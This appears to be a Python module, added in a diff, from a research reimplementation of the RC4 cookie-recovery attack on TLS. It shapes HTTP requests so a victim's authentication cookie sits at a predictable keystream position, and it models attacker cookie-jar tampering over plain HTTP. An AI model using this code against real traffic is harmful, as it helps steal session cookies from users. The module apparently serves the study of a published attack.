@@ -1,0 +1,167 @@
+"""HTTP request layout control for the cookie attack (paper §6.1, Listing 3).
+
+The attacker needs the targeted cookie at a *predictable keystream
+position*, surrounded by known plaintext on both sides.  Three levers
+accomplish this, all implemented here:
+
+- **header prediction**: the request line and headers preceding the
+  Cookie header are constant per browser/site and sniffable from
+  parallel plaintext HTTP traffic;
+- **cookie-jar manipulation**: an insecure HTTP channel can overwrite or
+  remove ``secure`` cookies (they are confidential, not integrity
+  protected), pushing the target to the front of the Cookie header and
+  injecting attacker cookies after it;
+- **alignment padding**: the length of injected cookie values is tuned
+  so the target sits at a fixed position modulo 256 (Fluhrer–McGrew
+  positions repeat with the PRGA counter).
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+
+from ..errors import TlsError
+
+
+@dataclass(frozen=True)
+class HttpRequestTemplate:
+    """A deterministic HTTP GET request with a controlled Cookie header.
+
+    Attributes:
+        host: target host (e.g. ``site.com``).
+        path: request path.
+        headers: ordered headers before the Cookie header (name, value);
+            constant per victim browser, hence known plaintext.
+        cookie_name: name of the targeted cookie (e.g. ``auth``).
+        injected_cookies: attacker-injected (name, value) pairs appearing
+            after the target in the Cookie header.
+    """
+
+    host: str
+    path: str = "/"
+    headers: tuple[tuple[str, str], ...] = (
+        ("User-Agent", "Mozilla/5.0 (X11; Linux i686; rv:32.0) Gecko/20100101"),
+        ("Accept", "text/html,application/xhtml+xml"),
+        ("Accept-Language", "en-US,en;q=0.5"),
+        ("Accept-Encoding", "gzip, deflate"),
+        ("Connection", "keep-alive"),
+    )
+    cookie_name: str = "auth"
+    injected_cookies: tuple[tuple[str, str], ...] = ()
+
+    def prefix(self) -> bytes:
+        """Everything before the cookie value — known plaintext."""
+        lines = [f"GET {self.path} HTTP/1.1", f"Host: {self.host}"]
+        lines.extend(f"{name}: {value}" for name, value in self.headers)
+        head = "\r\n".join(lines) + "\r\n"
+        return (head + f"Cookie: {self.cookie_name}=").encode("ascii")
+
+    def suffix(self) -> bytes:
+        """Everything after the cookie value — also known plaintext."""
+        parts = "".join(
+            f"; {name}={value}" for name, value in self.injected_cookies
+        )
+        return (parts + "\r\n\r\n").encode("ascii")
+
+    def build(self, cookie_value: bytes) -> bytes:
+        """The full request plaintext for a given cookie value."""
+        return self.prefix() + cookie_value + self.suffix()
+
+    def cookie_span(self, cookie_len: int) -> tuple[int, int]:
+        """1-indexed (first, last) plaintext positions of the cookie value."""
+        start = len(self.prefix()) + 1
+        return start, start + cookie_len - 1
+
+
+def pad_to_alignment(
+    template: HttpRequestTemplate,
+    cookie_len: int,
+    target_offset: int,
+    *,
+    modulus: int = 256,
+    pad_cookie_name: str = "p",
+) -> HttpRequestTemplate:
+    """Inject a padding cookie so the target lands on ``target_offset``
+    (mod ``modulus``) in the keystream (paper §6.3).
+
+    The attacker learns the unpadded request length by observing one
+    encrypted request (RC4 adds no padding, so lengths are visible), then
+    pads with an extra injected cookie.  Padding is *prepended* to the
+    injected-cookie list but placed after the target in the Cookie
+    header, so the known-plaintext suffix remains known.
+
+    Args:
+        template: the base request template.
+        cookie_len: length of the targeted cookie value.
+        target_offset: desired 1-indexed start position mod ``modulus``.
+        modulus: alignment modulus (256 aligns Fluhrer–McGrew positions).
+        pad_cookie_name: name for the padding cookie.
+
+    Returns:
+        A new template whose cookie start satisfies the alignment.
+    """
+    if not 0 <= target_offset < modulus:
+        raise TlsError(f"target_offset must be in [0, {modulus}), got {target_offset}")
+    current, _ = template.cookie_span(cookie_len)
+    shift = (target_offset - current) % modulus
+    if shift == 0:
+        return template
+    # Injected cookies sit *after* the target, so they cannot move it;
+    # the shift comes from lengthening a header that precedes the Cookie
+    # line.  Extending the User-Agent value by exactly `shift` bytes
+    # (one space + shift-1 filler chars) is invisible to the server.
+    name, value = template.headers[0]
+    padded_headers = ((name, value + " " + "x" * (shift - 1)),)
+    new_headers = padded_headers + template.headers[1:]
+    padded = HttpRequestTemplate(
+        host=template.host,
+        path=template.path,
+        headers=new_headers,
+        cookie_name=template.cookie_name,
+        injected_cookies=template.injected_cookies,
+    )
+    got, _ = padded.cookie_span(cookie_len)
+    if got % modulus != target_offset % modulus:
+        raise TlsError("alignment padding failed to land on the target offset")
+    return padded
+
+
+@dataclass
+class CookieJar:
+    """The victim browser's cookie jar for one site, with the §6.1
+    manipulations an active attacker can perform over plain HTTP."""
+
+    cookies: dict[str, bytes] = field(default_factory=dict)
+    order: list[str] = field(default_factory=list)
+
+    def set_cookie(self, name: str, value: bytes, *, secure: bool = False) -> None:
+        """Set a cookie (the ``secure`` attribute does not protect
+        integrity: the insecure channel may still overwrite it)."""
+        if name not in self.cookies:
+            self.order.append(name)
+        self.cookies[name] = bytes(value)
+
+    def remove_cookie(self, name: str) -> None:
+        self.cookies.pop(name, None)
+        if name in self.order:
+            self.order.remove(name)
+
+    def attacker_isolate(self, target: str) -> None:
+        """Remove every cookie except the target, pushing it to the front
+        of the Cookie header (paper §6.1)."""
+        if target not in self.cookies:
+            raise TlsError(f"target cookie {target!r} not present")
+        for name in list(self.order):
+            if name != target:
+                self.remove_cookie(name)
+
+    def attacker_inject(self, pairs: list[tuple[str, bytes]]) -> None:
+        """Append attacker-chosen cookies after the target."""
+        for name, value in pairs:
+            self.set_cookie(name, value)
+
+    def cookie_header(self) -> str:
+        """The Cookie header value in jar order."""
+        return "; ".join(
+            f"{name}={self.cookies[name].decode('latin-1')}" for name in self.order
+        )
